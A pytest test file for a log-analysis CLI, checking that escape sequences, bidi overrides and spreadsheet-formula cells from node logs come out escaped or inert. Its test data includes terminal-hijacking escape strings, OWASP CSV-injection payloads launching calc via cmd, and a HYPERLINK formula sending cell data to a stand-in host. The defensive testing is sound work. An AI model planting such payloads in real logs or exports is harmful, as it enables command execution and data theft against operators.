"""Log text reaches the operator's terminal as text: escape sequences, control characters and bidi
overrides written by users of the nodes are shown escaped in every text output and every column and
in --plot's HTML, and kept exactly in JSON and CSV, where a cell a spreadsheet would run as a formula
is marked as text."""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from observe.cli import app
from observe.cli.analyses import _csv
from observe.collector import Context
from observe.ingest import parse_bytes
from observe.printable import printable
from observe.store import Store
from queries.explain import Explanation
from queries.plot import timeline_html

runner = CliRunner()
# clear screen, retitle the window (OSC ... BEL), 8-bit CSI, right-to-left override, overwrites
MESSAGE = "GPU gone \x1b[2J\x1b]0;owned\x07 \x9b31m \u202etxt.exe \rOK\x08\x00\x7f end"
NODE = "gpu9\x1bc\x9b2J\u202e"  # ESC c resets the terminal
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def stamp(ago_s: float) -> str:
    return (datetime.now(timezone.utc) - timedelta(seconds=ago_s)).strftime("%Y-%m-%dT%H:%M:%S")


def xid(node: str, ago_s: float) -> pl.DataFrame:
    """A fatal Xid on ``node`` ``ago_s`` seconds ago whose text is MESSAGE, read from /dev/kmsg."""
    boot = datetime.now(timezone.utc) - timedelta(seconds=1000 + ago_s)
    line = f"[ 1000.000000] NVRM: Xid (PCI:0000:3b:00): 79, pid='<unknown>', name=<unknown>, {MESSAGE}\n"
    return parse_bytes(line.encode(), "kernel", Context(node=node, boot_time=boot, route="kmsg"))


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Job 950 on gpu001 killed 30 s ago; a fatal Xid with MESSAGE on gpu001 during it and on NODE."""
    st = Store(tmp_path_factory.mktemp("escaping") / "store")
    st.write(parse_bytes(f"[{stamp(600)}.000] sched: Allocate JobId=950 NodeList=gpu001 #CPUs=8 Partition=gpu\n"
                         f"[{stamp(30)}.000] _job_complete: JobId=950 WTERMSIG 9\n".encode(), "slurm", Context(node="ctl1")))
    st.write(xid("gpu001", 100))
    st.write(xid(NODE, 90))
    return str(st.root)


@pytest.mark.parametrize("args, shows_node", [(["query"], True), (["explain", "950"], False), (["incidents"], True),
                                              (["nodes"], True), (["patterns", "--all"], False),
                                              (["health", "faults"], True)])
def test_text_outputs_show_control_characters_escaped(store: str, args: list[str], shows_node: bool) -> None:
    result = runner.invoke(app, [*args, "--store", store])
    assert result.exit_code == 0, result.output
    assert not RAW.search(result.stdout) and not RAW.search(result.stderr)
    assert "\\x1b" in result.stdout
    assert not shows_node or "gpu9\\x1bc" in result.stdout  # the node column too (cut to width in some tables)


def test_error_lines_quoting_input_are_escaped(tmp_path: Path) -> None:
    result = runner.invoke(app, ["ingest", f"{tmp_path}/x\x1b[2J\x07.log", "--store", str(tmp_path / "s")])
    assert result.exit_code == 2
    assert "no such file" in result.stderr and "x\\x1b[2J\\x07.log" in result.stderr
    assert not RAW.search(result.stderr)


def test_machine_formats_keep_the_exact_text(store: str) -> None:
    rows = [json.loads(line) for line in runner.invoke(app, ["query", "--format", "json", "--kind", "gpu_xid",
                                                             "--store", store]).stdout.splitlines()]
    assert {r["node"] for r in rows} == {"gpu001", NODE}
    assert all(r["message"].endswith(MESSAGE) for r in rows)
    csv = pl.read_csv(io.StringIO(runner.invoke(app, ["query", "--format", "csv", "--kind", "gpu_xid",
                                                      "--store", store]).stdout))
    assert set(csv["node"]) == {"gpu001", NODE} and all(m.endswith(MESSAGE) for m in csv["message"])
    explained = json.loads(runner.invoke(app, ["explain", "950", "--format", "json", "--store", store]).stdout)
    assert explained["root_cause"]["message"].endswith(MESSAGE)


def test_printable_escapes_what_a_terminal_obeys_and_nothing_else() -> None:
    assert printable("a\x1b[2Jb\x9b\x07\x00\x7f\x85") == "a\\x1b[2Jb\\x9b\\x07\\x00\\x7f\\x85"
    assert printable("x\ty\nz\r") == "x\\ty\\nz\\r"  # one row stays one line
    assert printable("\u202eabc\u2066\u200f\u2028") == "\\u202eabc\\u2066\\u200f\\u2028"
    plain = "C:\\dir [red]x[/red] ünïcødé 日本 ✓"
    assert printable(plain) == plain
    assert printable(printable(MESSAGE)) == printable(MESSAGE)


# cells a spreadsheet runs (OWASP's CSV injection examples), and one opening with the quote that marks them
FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.example/?\"&A1)", "'quoted", "plain -x text"]


def test_csv_cells_a_spreadsheet_would_run_are_inert(tmp_path: Path) -> None:
    """A message opening with = + - @ (or ') comes out of --format csv with a leading ', which
    spreadsheets show as text; dropping it gives the exact text. Other cells, and JSON, are exact."""
    boot = datetime.now(timezone.utc) - timedelta(seconds=2000)
    st = Store(tmp_path / "store")
    st.write(parse_bytes("".join(f"[ {1000 + i}.000000] {m}\n" for i, m in enumerate(FORMULAS)).encode(), "kernel",
                         Context(node="gpu001", boot_time=boot, route="kmsg")))
    args = ["query", "--source", "kernel", "--limit", "0", "--store", str(st.root), "--format"]
    exact = sorted(json.loads(line)["message"] for line in runner.invoke(app, [*args, "json"]).stdout.splitlines())
    rows = list(csv.DictReader(io.StringIO(runner.invoke(app, [*args, "csv"]).stdout, newline="")))
    assert exact == sorted(FORMULAS) and sorted(r["node"] for r in rows) == ["gpu001"] * len(FORMULAS)
    assert sorted(r["message"] for r in rows) == sorted("'" + m if m[0] in "=+-@'" else m for m in FORMULAS)
    assert sorted(r["message"][1:] if r["message"][0] == "'" else r["message"] for r in rows) == exact


@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1", "\x00=1+1"])
def test_csv_cells_opening_with_tab_cr_or_nul_are_inert(cell: str) -> None:
    """OWASP's advice also names tab and CR, and ASVS NUL, as a formula's first character."""
    header, row = csv.reader(io.StringIO(_csv(pl.DataFrame({"message": [cell], "code": [-1]})), newline=""))
    assert header == ["message", "code"] and row == ["'" + cell, "-1"]  # a negative number is no text cell


def test_the_plot_shows_control_characters_escaped(store: str, tmp_path: Path) -> None:
    """--plot's page (its title, lanes, marks' tooltips, verdict) shows escapes, never the raw characters."""
    page = tmp_path / "job.html"
    result = runner.invoke(app, ["explain", "950", "--plot", str(page), "--store", store])
    assert result.exit_code == 0, result.output
    assert "\\x1b[2J" in page.read_text() and not RAW.search(page.read_text())
    when = datetime.now(timezone.utc)
    event = {"ts": when, "node": NODE, "kind": "gpu_xid", "count": 1, "message": MESSAGE}
    html = timeline_html(Explanation(job_id="950\x1b]0;owned\x07", state="FAILED\x9b2J", exit_code=None, nodes=[NODE],
                                     start=when, end=when, root_cause={**event, "category": "gpu\u202e"},
                                     timeline=[event]), {})
    assert "<title>job 950\\x1b]0;owned\\x07: FAILED\\x9b2J</title>" in html and not RAW.search(html)
